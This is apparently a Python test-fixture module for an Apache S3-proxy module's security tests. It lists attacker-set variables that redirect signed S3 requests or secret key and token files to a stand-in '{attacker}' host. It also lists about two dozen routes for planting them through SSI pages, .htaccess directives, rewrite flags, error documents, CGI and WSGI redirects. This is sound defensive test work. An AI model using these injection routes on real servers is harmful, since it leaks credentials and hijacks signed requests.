"""What an attacker writes: settings, and the ways that pages and .htaccess files lead to a bucket of the operator."""

from __future__ import annotations

from collections.abc import Callable
from typing import NamedTuple

from tests.httpd.conftest import BUCKET
from tests.httpd.trust import DATA, HAS_CGI, KEY, Stage

#: What an attacker sets; {attacker} and {secret} are filled in. The mounts set none of these but the last.
ATTACKS: dict[str, dict[str, str]] = {
    "nothing": {},
    "second bucket": {"S3FallbackURL": "http://{attacker}/b/", "S3FallbackOn404": "on"},
    "key file": {
        "S3FallbackURL": "http://{attacker}/b/", "S3FallbackOn404": "on", "S3FallbackAccessKeyFile": "{secret}",
        "S3FallbackSecretKey": "x",
    },
    "token file": {
        "S3FallbackURL": "http://{attacker}/b/", "S3FallbackOn404": "on", "S3FallbackAccessKey": "x",
        "S3FallbackSecretKey": "x", "S3FallbackSecurityTokenFile": "{secret}",
    },
    "first bucket": {"S3BucketURL": "http://{attacker}/b/"},
    "role": {"S3RoleARN": "arn:aws:iam::123456789012:role/x", "S3STSEndpoint": "http://{attacker}"},
    "files": {"S3AccessKeyFile": "{secret}", "S3SecretKeyFile": "{secret}", "S3CAFile": "{secret}"},
    "query": {"S3PassQuery": "response-content-type"},
    "connections": {"S3ProxySet": "nonsense"},
    "misspelt": {"S3FallbackUrl": "x", "s3bucket": "x"},
    "ours": {
        "USP_S3_SETTINGS": "S3FallbackURL=http://{attacker}/b/", "USP_S3_DEBUG": "1", "USP_S3_TRUSTED": "1",
        "USP_S3_GUARDED": "0", "USP_S3": "1",
    },
    "the bucket itself": {
        "S3BucketURL": "http://{attacker}/b/", "S3AccessKey": "x", "S3SecretKey": "x", "S3Region": "x",
        "S3UseHeaders": "off", "S3SecurityToken": "",
    },
}  # fmt: skip


#: Those that bring what is signed, or a secret, to another host.
REMOTE = ["nothing", "second bucket", "key file", "first bucket", "role", "the bucket itself"]


class Shot(NamedTuple):
    """An attack that is laid out: what the client asks for, the status if all is well, the key that is served."""

    target: str
    status: int = 200
    key: str | None = None


Way = Callable[[Stage, str, dict[str, str], str], Shot]


def vars_of(variables: dict[str, str]) -> str:
    return "".join(f'<!--#set var="{name}" value="{value}" -->' for name, value in variables.items())


def include(url: str) -> str:
    return f'[<!--#include virtual="{url}" -->]'


def setenv(variables: dict[str, str]) -> str:
    return "".join(f'SetEnv {name} "{value}"\n' for name, value in variables.items())


def setenvif(variables: dict[str, str]) -> str:
    return "".join(f"SetEnvIf Request_URI . {name}={value or 'x'}\n" for name, value in variables.items())


def expression(variables: dict[str, str]) -> str:
    return "".join(f"SetEnvIfExpr true {name}={value or 'x'}\n" for name, value in variables.items())


def browser(variables: dict[str, str]) -> str:
    return "".join(f"BrowserMatch ^ {name}={value or 'x'}\n" for name, value in variables.items())


def flags(variables: dict[str, str]) -> str:
    """The flags of a rule; a name that begins with "!" is unset."""
    given = [f"E={name}" if name.startswith("!") else f"E={name}:{value}" for name, value in variables.items()]
    return ",".join(["NC", *given])


def rewrite(variables: dict[str, str]) -> str:
    return f"RewriteEngine On\nRewriteRule ^ - [{flags(variables)}]\n"


DIRECTIVES = {"SetEnv": setenv, "SetEnvIf": setenvif, "Expr": expression, "Browser": browser, "Rewrite": rewrite}


def within(container: str, directives: Callable[[dict[str, str]], str]) -> Callable[[dict[str, str]], str]:
    name = container.split()[0]
    return lambda variables: f"<{container}>\n{directives(variables)}</{name}>\n"


def fill_in(variables: dict[str, str], stage: Stage) -> dict[str, str]:
    return {name: value.format(attacker=stage.attacker.host, secret=stage.secret) for name, value in variables.items()}


def page(stage: Stage, mount: str, variables: dict[str, str], key: str) -> Shot:
    folder = stage.folder()
    stage.write(f"{folder}/page.shtml", vars_of(variables) + include(f"{mount}/{key}"))
    return Shot(f"/{folder}/page.shtml")


def page_query(stage: Stage, mount: str, variables: dict[str, str], key: str) -> Shot:
    folder = stage.folder()
    stage.write(f"{folder}/page.shtml", vars_of(variables) + include(f"{mount}/{key}?response-content-type=text/x"))
    return Shot(f"/{folder}/page.shtml")


def page_of_pages(stage: Stage, mount: str, variables: dict[str, str], key: str) -> Shot:
    folder = stage.folder()
    stage.write(f"{folder}/page.shtml", vars_of(variables) + include("inner.shtml"))
    stage.write(f"{folder}/inner.shtml", include("innermost.shtml"))
    stage.write(f"{folder}/innermost.shtml", include(f"{mount}/{key}"))
    return Shot(f"/{folder}/page.shtml")


def page_after_page(stage: Stage, mount: str, variables: dict[str, str], key: str) -> Shot:
    """A nested page writes into the environment of the outer one."""
    folder = stage.folder()
    stage.write(f"{folder}/page.shtml", include("inner.shtml") + include(f"{mount}/{key}"))
    stage.write(f"{folder}/inner.shtml", vars_of(variables))
    return Shot(f"/{folder}/page.shtml")


def page_onerror(stage: Stage, mount: str, variables: dict[str, str], key: str) -> Shot:
    folder = stage.folder()
    text = f'<!--#include virtual="/none" onerror="{mount}/{key}" -->'
    stage.write(f"{folder}/page.shtml", vars_of(variables) + text)
    return Shot(f"/{folder}/page.shtml")


def page_index(stage: Stage, mount: str, variables: dict[str, str], key: str) -> Shot:
    """A fast redirect within a subrequest."""
    folder = stage.folder()
    stage.write(f"{folder}/index/.htaccess", f"DirectoryIndex {mount}/{key}\n{setenv(variables)}")
    stage.write(f"{folder}/page.shtml", include(f"/{folder}/index/"))
    return Shot(f"/{folder}/page.shtml")


def page_location(stage: Stage, mount: str, variables: dict[str, str], key: str) -> Shot:
    """An internal redirect within a subrequest."""
    folder = stage.folder()
    stage.write(f"{folder}/x.asis", f"Status: 200 OK\nLocation: {mount}/{key}\n\n")
    stage.write(f"{folder}/page.shtml", vars_of(variables) + include("x.asis"))
    return Shot(f"/{folder}/page.shtml")


def htaccess(directives: Callable[[dict[str, str]], str]) -> Way:
    def lay_out(stage: Stage, mount: str, variables: dict[str, str], key: str) -> Shot:
        folder = stage.folder()
        stage.write(f"{folder}/.htaccess", directives(variables))
        stage.write(f"{folder}/page.shtml", include(f"{mount}/{key}"))
        return Shot(f"/{folder}/page.shtml")

    return lay_out


def index(directives: Callable[[dict[str, str]], str], name: str = "DirectoryIndex") -> Way:
    def lay_out(stage: Stage, mount: str, variables: dict[str, str], key: str) -> Shot:
        folder = stage.folder()
        stage.write(f"{folder}/.htaccess", f"{directives(variables)}{name} {mount}/{key}\n")
        return Shot(f"/{folder}/" if name == "DirectoryIndex" else f"/{folder}/none")

    return lay_out


def error_document(stage: Stage, mount: str, variables: dict[str, str], key: str) -> Shot:
    folder = stage.folder()
    stage.write(f"{folder}/.htaccess", f"{setenv(variables)}{setenvif(variables)}ErrorDocument 404 {mount}/{key}\n")
    return Shot(f"/{folder}/none", 404)


def rewritten(stage: Stage, mount: str, variables: dict[str, str], key: str) -> Shot:
    folder = stage.folder()
    rule = f"RewriteEngine On\nRewriteRule ^x$ {mount}/{key} [{flags(variables)}]\n"
    stage.write(f"{folder}/.htaccess", f"{setenv(variables)}{rule}")
    return Shot(f"/{folder}/x")


def action(stage: Stage, mount: str, variables: dict[str, str], key: str) -> Shot:
    folder = stage.folder()
    stage.write(f"{folder}/.htaccess", f"{setenv(variables)}SetHandler x-own\nAction x-own {mount}\n")
    stage.write(f"{folder}/x", "")
    if key == KEY:
        stage.s3.put(BUCKET, f"{folder}/x", DATA)
    return Shot(f"/{folder}/x", key=f"{folder}/x")


def type_map(stage: Stage, mount: str, variables: dict[str, str], key: str) -> Shot:
    folder = stage.folder()
    stage.write(f"{folder}/.htaccess", setenv(variables))
    stage.write(f"{folder}/x.var", f"URI: ..{mount}/{key}\nContent-Type: text/plain\n")
    return Shot(f"/{folder}/x.var")


def as_it_is(stage: Stage, mount: str, variables: dict[str, str], key: str) -> Shot:
    folder = stage.folder()
    stage.write(f"{folder}/.htaccess", setenv(variables) + rewrite(variables))
    stage.write(f"{folder}/x.asis", f"Status: 200 OK\nLocation: {mount}/{key}\n\n")
    return Shot(f"/{folder}/x.asis")


def cgi(stage: Stage, mount: str, variables: dict[str, str], key: str) -> Shot:
    folder = stage.folder()
    stage.write(f"{folder}/.htaccess", setenv(variables))
    stage.write(f"{folder}/x.cgi", f'#!/bin/sh\nprintf "Location: {mount}/{key}\\n\\n"\n', 0o755)
    return Shot(f"/{folder}/x.cgi")


def wsgi(stage: Stage, mount: str, variables: dict[str, str], key: str) -> Shot:
    """Another application, in daemon mode, whose answer mod_wsgi takes for an internal redirect."""
    folder = stage.folder()
    stage.write(f"{folder}/.htaccess", setenv(variables))
    stage.write(
        f"{folder}/x.wsgi",
        f"def application(environ, start):\n    start('200 OK', [('Location', '{mount}/{key}')])\n    return []\n",
    )
    return Shot(f"/{folder}/x.wsgi")


WAYS: dict[str, Way] = {
    "page": page, "page with a query": page_query, "page of pages": page_of_pages, "page after page": page_after_page,
    "page onerror": page_onerror, "page, index": page_index, "page, Location": page_location,
    **{f"htaccess {name}": htaccess(directives) for name, directives in DIRECTIVES.items()},
    **{f"index {name}": index(directives) for name, directives in DIRECTIVES.items()},
    "fallback resource": index(setenv, "FallbackResource"), "error document": error_document, "rewritten": rewritten,
    "action": action, "type map": type_map, "as it is": as_it_is, "wsgi": wsgi, **({"cgi": cgi} if HAS_CGI else {}),
}  # fmt: skip
